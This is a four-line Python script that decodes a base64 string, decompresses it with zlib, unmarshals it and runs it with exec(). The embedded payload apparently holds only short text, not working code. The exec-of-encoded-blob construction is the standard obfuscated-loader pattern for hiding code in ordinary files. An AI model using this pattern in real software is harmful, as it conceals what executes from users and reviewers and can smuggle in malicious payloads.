import base64
import marshal
import zlib

B = "eJzLyy9RKEpNzMmpVMhNLCrOSMxRSEksSQQAaasIvQ=="
exec(marshal.loads(zlib.decompress(base64.b64decode(B))))
